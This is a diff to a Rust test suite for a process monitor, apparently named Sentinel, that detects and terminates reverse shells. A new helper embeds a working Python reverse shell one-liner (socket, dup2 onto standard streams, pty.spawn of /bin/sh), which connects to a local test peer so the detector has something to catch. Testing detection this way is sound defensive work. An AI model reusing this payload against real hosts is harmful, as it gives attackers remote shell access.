@@ -35,7 +35,8 @@ fn a_shell_that_was_connected_before_is_found() {
     let (mut child, shell) = connected_shell(&bed);
     let started = start_ticks(child.id());
     let mut sentinel = Sentinel::start(&bed, &[]);
-    sentinel.wait_for("CRITICAL");
+    // Not critical: nobody knows whether it was given a script.
+    sentinel.wait_for("HIGH reverse_shell");
     // It is told once, whatever it does, and however often it is looked at.
     std::thread::sleep(Duration::from_secs(1));
     shell.exit();
@@ -56,18 +57,24 @@ fn a_shell_that_was_connected_before_is_found() {
     assert!(events.contains(&"found") && events.contains(&"running"), "{alert:#}");
 }
 
-#[test]
-fn a_relay_to_a_terminal_that_was_there_before_is_found() {
-    let Some(bed) = Bed::new() else { return };
+/// A program that relays between a connection and a shell on a terminal, and the attacker's end.
+fn relay(bed: &Bed) -> (Child, sentinel_tests::peer::Shell) {
     let peer = Peer::listen("127.0.0.1");
     let code = format!(
         "import os,pty,socket\ns=socket.create_connection(('127.0.0.1',{}))\n\
          for i in range(3): os.dup2(s.fileno(),i)\npty.spawn('/bin/sh')",
         peer.address().port()
     );
-    let mut child = start(&bed, "python3", &code);
+    let child = start(bed, "python3", &code);
     let mut shell = peer.shell();
     shell.pid();
+    (child, shell)
+}
+
+#[test]
+fn a_relay_to_a_terminal_that_was_there_before_is_found() {
+    let Some(bed) = Bed::new() else { return };
+    let (mut child, shell) = relay(&bed);
     let mut sentinel = Sentinel::start(&bed, &[]);
     sentinel.wait_for("CRITICAL");
     shell.exit();
@@ -80,14 +87,14 @@ fn a_relay_to_a_terminal_that_was_there_before_is_found() {
 }
 
 #[test]
-fn a_shell_that_was_connected_before_is_ended_if_that_is_asked_for() {
+fn a_relay_that_was_there_before_is_ended_if_that_is_asked_for() {
     let Some(bed) = Bed::new() else { return };
-    let (mut child, _shell) = connected_shell(&bed);
+    let (mut child, _shell) = relay(&bed);
     let mut sentinel = Sentinel::start(&bed, &["--grimoire-enforce"]);
     sentinel.wait_for("terminated");
     assert_eq!(ends_by_signal(&mut child), Some(9));
     let outcome = sentinel.stop();
-    assert_eq!(outcome.alerts[0]["action"], "terminated");
+    assert!(outcome.alerts.iter().any(|alert| alert["action"] == "terminated"));
 }
 
 #[test]
